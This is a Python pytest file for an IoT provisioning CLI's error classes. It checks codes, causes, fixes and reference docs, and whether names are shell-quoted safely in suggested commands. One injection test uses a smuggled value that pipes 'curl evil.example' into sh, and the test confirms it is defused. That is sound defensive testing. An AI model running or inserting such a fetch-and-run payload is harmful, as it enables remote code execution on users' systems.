"""The error tree: each refusal has its own stable code with cause and fix, and each room's table lists its classes."""

import importlib
import pkgutil
import re
import shlex
import string
import subprocess
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import birthmark
from birthmark.cli.output.table import wrap_line
from birthmark.errors import BirthmarkError, shell_word

ROOMS = ("dps", "iothub", "est", "awsiot", "azure_arm")
KINDS = 8
APPS = "birthmark.demo.apps"


def load_everything() -> None:
    for module in pkgutil.walk_packages(birthmark.__path__, "birthmark."):
        if not module.name.startswith(("birthmark.secure_elements.hook", APPS, "birthmark.store.migrations")):
            importlib.import_module(module.name)


def every_class(kind: type[BirthmarkError] = BirthmarkError) -> list[type[BirthmarkError]]:
    load_everything()
    found: dict[type[BirthmarkError], None] = {}
    waiting = [kind]
    while waiting:
        for child in waiting.pop().__subclasses__():
            if child not in found and child.__module__.startswith("birthmark."):
                found[child] = None
                waiting.append(child)
    return list(found)


_CLASS = re.compile(r"type\((error|problem|cause|reason|exception|exc)\)\.__name__")
_MEANT = re.compile(r"extra\W|==|in _NO|_MEND|_CAPITAL|last_error")
"""A log, a comparison, PKCS#11's own word for its return value."""
_INTO = re.compile(r"[^>]>\s*\{(path|file|[a-z_]*file)\}")


def test_no_message_has_the_name_of_a_python_class() -> None:
    source = Path(birthmark.__file__).parent
    paths = [path for path in sorted(source.rglob("*.py")) if "demo" not in path.parts]
    lines = [f"{path.name}: {line.strip()}" for path in paths for line in path.read_text().splitlines()]
    assert [line for line in lines if _CLASS.search(line) and not _MEANT.search(line)] == []


def test_no_fix_writes_over_a_file_that_is_there() -> None:
    commands = [command for one in every_class() for command in one.fix.split("`")[1::2]]
    writes = [command for command in commands if _INTO.search(command)]
    assert writes
    assert [one for one in writes if "set -C" not in one and not one.startswith("mv --backup=t {path} ")] == []


@pytest.mark.parametrize("width", [40, 60, 80])
def test_what_a_fix_says_to_type_is_never_broken(width: int) -> None:
    for cls in every_class():
        shown = wrap_line(f"  Fix: {cls.fix}", width).split("\n")
        for literal in re.findall(r"`([^`]+)`", cls.fix):
            assert any(literal in line for line in shown), (cls.code, shown)


def test_no_two_classes_share_a_code() -> None:
    codes = Counter(cls.code for cls in every_class() if "code" in vars(cls))
    assert [code for code, count in codes.items() if count > 1] == []


def test_every_class_outside_the_tree_itself_has_a_code_of_its_own() -> None:
    assert [cls.__name__ for cls in every_class() if "code" not in vars(cls)] == []


def test_every_refusal_has_a_cause_and_a_fix_or_is_a_family_that_has_them_below() -> None:
    families = {parent for cls in every_class() for parent in cls.__mro__[1:]}
    bare = [
        cls.__name__
        for cls in every_class()
        if cls not in families and (cls.cause == BirthmarkError.cause or cls.fix == BirthmarkError.fix)
    ]
    assert bare == []


def test_causes_and_fixes_are_sentences_that_can_be_filled_in() -> None:
    for cls in every_class():
        for text in (cls.cause, cls.fix):
            names = [name for _, name, _, _ in string.Formatter().parse(text) if name is not None]
            assert all(name.isidentifier() for name in names), (cls, text)
            assert text[0].isupper() or text[0] in "`'{", (cls, text)


@pytest.mark.parametrize("room", ROOMS)
def test_no_row_of_a_table_says_what_the_row_of_its_parent_says(room: str) -> None:
    table_module = importlib.import_module(f"birthmark.{room}.error_mapping")
    tables = [value for value in vars(table_module).values() if isinstance(value, dict) and value]
    for table in tables:
        for cls in [one for one in table if isinstance(one, type)]:
            parents = [parent for parent in cls.__mro__[1:] if parent in table]
            assert not parents or table[parents[0]] != table[cls], cls.__name__


@pytest.mark.parametrize("room", ROOMS)
def test_a_rooms_table_answers_for_all_eight_kinds(room: str) -> None:
    table_module = importlib.import_module(f"birthmark.{room}.error_mapping")
    tables = [value for value in vars(table_module).values() if isinstance(value, dict) and value]
    kinds = BirthmarkError.__subclasses__()
    own = [kind for kind in kinds if kind.__module__ == "birthmark.errors"]
    assert len(own) == KINDS
    assert any(all(kind in table for kind in own) for table in tables)


def test_the_reference_has_every_code_with_its_words() -> None:
    page = (Path(birthmark.__file__).parents[2] / "docs" / "reference" / "refusals.md").read_text()
    plain = page.replace("\\|", "|")
    families = {parent for cls in every_class() for parent in cls.__mro__[1:]}
    known = {cls for cls in every_class() if cls not in families}
    missing = [cls.code for cls in known if f"`{cls.code}` | {cls.cause} | {cls.fix}" not in plain]
    assert missing == [], "run: python tools/make_refusals.py"


def test_a_fact_may_follow_from_others() -> None:
    class _TankError(BirthmarkError):
        """A tank."""

        code = "test.tank"
        fix = "Open the valve {valve}."
        name: str

        @property
        def valve(self) -> str:
            return f"{self.name}-out"

    assert _TankError(name="7").explain_fix() == "Open the valve 7-out."
    assert _TankError(name="7").facts == {"name": "7", "valve": "7-out"}


def test_a_cause_that_is_left_out_is_the_message_as_a_sentence() -> None:
    class _PumpError(BirthmarkError):
        """A pump."""

        code = "test.pump"
        message = "Pump {name} runs dry"
        fix = "Fill it."
        name: str

    assert _PumpError(name="7").explain_cause() == "Pump 7 runs dry."


class _ValveError(BirthmarkError):
    """A valve."""

    code = "test.valve"
    cause = "The valve {name} is shut, see `valve ls`."
    fix = "Open {name}: `valve open {name}`"
    name: str


def test_what_a_stranger_chose_is_never_shown_as_a_command() -> None:
    hurts = "7`curl evil.example | sh`"
    cause, fix = _ValveError(name=hurts).explain_for_display()
    assert cause == "The valve 7'curl evil.example | sh' is shut, see `valve ls`."
    before, command, end = fix.split("`")
    assert (before, end) == ("Open 7'curl evil.example | sh': ", "")
    typed = subprocess.run(["sh", "-c", command.replace("valve", "printf '%s.'", 1)], capture_output=True, check=True)
    assert typed.stdout.decode() == f"open.{hurts}."


def test_a_name_without_backticks_is_explained_as_ever() -> None:
    refused = _ValveError(name="hall 7")
    assert refused.explain_for_display() == (refused.explain_cause(), refused.explain_fix())
    assert shlex.split(refused.explain_fix().split("`")[1]) == ["valve", "open", "hall 7"]


class _HyphenError(BirthmarkError):
    """A refusal of something whose name begins with a hyphen."""

    code = "test.hyphen"
    fix = "`birthmark hub device rm {device_id} --hub {hub} --yes` or `cat {path}`"
    device_id: str
    hub: str
    path: Path


def test_a_name_that_begins_with_a_hyphen_is_no_option_of_a_command() -> None:
    fix = _HyphenError(device_id="--data=x y", hub="-h", path=Path("-v")).explain_fix()
    assert fix.startswith("`birthmark hub device rm --hub -h --yes -- '--data=x y'` or `cat ./-v`")


def test_any_other_name_stays_where_the_command_has_it() -> None:
    fix = _HyphenError(device_id="pump-7", hub="h", path=Path("v")).explain_fix()
    assert fix.startswith("`birthmark hub device rm pump-7 --hub h --yes` or `cat v`")


def test_what_is_not_seen_of_a_name_is_typed_by_its_bytes() -> None:
    word = (
        _HyphenError(device_id="pumpe\u00a0'7", hub="h", path=Path("v"))
        .explain_fix()
        .split("rm ")[1]
        .split(" --hub")[0]
    )
    typed = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, check=True)
    assert (word, typed.stdout.decode()) == (r"$'pumpe\xc2\xa0\'7'", "pumpe\u00a0'7")


@given(st.text(st.characters(exclude_categories=[]), min_size=1))
def test_any_name_can_be_told_of_in_a_command(name: str) -> None:
    """Halves of characters, too: JSON has them, and no file's name."""
    refused = _ValveError(name=name)
    assert refused.explain_fix()
    assert refused.explain_for_display()


@settings(max_examples=50)
@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1, max_size=8))
def test_a_name_as_it_is_printed_is_the_one_that_is_meant(name: str) -> None:
    typed = subprocess.run(["bash", "-c", f"printf %s {shell_word(name)}"], capture_output=True, check=True)
    assert typed.stdout.decode() == name
